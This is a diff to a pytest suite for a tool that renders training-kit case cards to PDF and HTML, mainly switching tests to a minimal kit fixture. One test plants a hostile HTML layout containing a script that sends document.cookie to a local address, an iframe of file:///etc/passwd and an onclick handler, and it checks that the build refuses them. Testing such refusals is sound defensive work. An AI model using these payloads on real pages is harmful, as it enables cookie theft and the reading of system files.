@@ -9,7 +9,6 @@ from __future__ import annotations
 
 import base64
 import re
-import shutil
 import struct
 import tracemalloc
 import zlib
@@ -19,27 +18,22 @@ import pytest
 from pypdf import PdfReader
 from pypdf.generic import DictionaryObject, IndirectObject
 
-from conftest import copy_sample, edit, pdf_text, set_field
+from conftest import MINIMAL_KIT, edit, pdf_text, set_field
 
-KIT = "content/kits/leadership-half-day.yaml"
-CASE = "content/topics/reverse-mentoring/case-studies/digital-dashboard.yaml"
+KIT = f"content/kits/{MINIMAL_KIT}.yaml"
+CASE = "content/topics/listening/case-studies/quiet-meeting.yaml"
 NOTO = Path("/usr/share/fonts/truetype/noto/NotoSans-Regular.ttf")
 SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">{}</svg>'
 
 
-@pytest.fixture(scope="session")
-def pristine(tmp_path_factory) -> Path:
-    return copy_sample(tmp_path_factory.mktemp("hostile-render"))
-
-
 @pytest.fixture
-def ws(pristine, tmp_path) -> Path:
-    """A fresh copy of the sample workspace (content only), from one copy made per session."""
-    return Path(shutil.copytree(pristine, tmp_path / "ws"))
+def ws(minimal) -> Path:
+    """A copy of the `minimal` root: its outputs are quick to make."""
+    return minimal
 
 
 def out(ws: Path, name: str, suffix: str = "pdf") -> Path:
-    return ws / "build" / "leadership-half-day" / f"leadership-half-day-{name}.{suffix}"
+    return ws / "build" / MINIMAL_KIT / f"{MINIMAL_KIT}-{name}.{suffix}"
 
 
 def layout(ws: Path, name: str, text: str) -> None:
@@ -55,7 +49,7 @@ def extends_case_cards(css: str = "", body: str = "") -> str:
 
 def build_fails_alone(kitgen, ws: Path, *fragments: str) -> str:
     """Build case cards (hostile) and the discussion guide; the first fails naming its layout, the other builds."""
-    result = kitgen("build", "-C", ws, "leadership-half-day", "--only", "case-cards,discussion-guide", "--force")
+    result = kitgen("build", "-C", ws, MINIMAL_KIT, "--only", "case-cards,discussion-guide", "--force")
     assert result.code == 1, result.text
     assert "Traceback" not in result.text
     assert "layouts/case-cards.html" in result.err, result.err
@@ -332,11 +326,11 @@ def test_markdown_links_other_than_web_addresses_print_as_text(kitgen, ws):
     assert [m for m, _ in link_problems("[a](../x) [b](https://ok.example)")] == [
         "the link to '../x' prints as plain text: only http, https and mailto links are kept"]
     set_field(ws / CASE, "scenario", LINKS)
-    checked = kitgen("validate", "-C", ws, "leadership-half-day")
+    checked = kitgen("validate", "-C", ws, MINIMAL_KIT)
     assert checked.code == 0, checked.text
     warned = [line for line in checked.err.splitlines() if "prints as plain text" in line]
     assert len(warned) == 4 and all(re.match(rf"{re.escape(CASE)}:\d+:\d+: scenario: warning:", w) for w in warned), warned
-    result = kitgen("build", "-C", ws, "leadership-half-day", "--only", "case-cards")
+    result = kitgen("build", "-C", ws, MINIMAL_KIT, "--only", "case-cards")
     assert result.code == 0, result.text
     reader = PdfReader(out(ws, "case-cards"))
     uris = [a.get_object()["/A"].get("/URI") for page in reader.pages for a in page.get("/Annots", [])
@@ -375,7 +369,7 @@ def test_html_export_applies_the_same_gate(kitgen, ws):
     layout(ws, "case-cards.html", "<html><body><p>Card</p><script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"
            f'<img src="file://{secret}"><iframe src="file:///etc/passwd"></iframe>'
            '<p onclick="alert(1)">x</p></body></html>')
-    result = kitgen("build", "-C", ws, "leadership-half-day", "--only", "case-cards,discussion-guide", "--format", "html")
+    result = kitgen("build", "-C", ws, MINIMAL_KIT, "--only", "case-cards,discussion-guide", "--format", "html")
     assert result.code == 1, result.text
     for fragment in ("layouts/case-cards.html", "refused <script>", "refused <iframe>", "secret.png",
                      "refused onclick= on <p>"):
